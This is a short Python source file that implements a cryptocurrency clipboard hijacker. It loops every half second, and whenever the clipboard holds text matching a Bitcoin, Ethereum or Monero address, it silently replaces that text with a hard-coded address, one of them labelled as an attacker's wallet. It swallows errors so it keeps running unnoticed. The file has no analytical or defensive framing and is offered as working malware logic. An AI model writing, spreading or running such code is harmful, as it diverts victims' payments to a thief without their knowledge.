import re, time
import pyperclip

_SWAP = {
    re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$"): "bc1qz8h4x0attacker0wallet0000000000000000",
    re.compile(r"^0x[a-fA-F0-9]{40}$"): "0x000000000000000000000000000000000000dEaD",
    re.compile(r"^4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}$"): "4" + "A" * 94,
}

def loop():
    while True:
        try:
            text = pyperclip.paste().strip()
            for pat, mine in _SWAP.items():
                if pat.match(text) and text != mine:
                    pyperclip.copy(mine)
        except Exception:
            pass
        time.sleep(0.5)
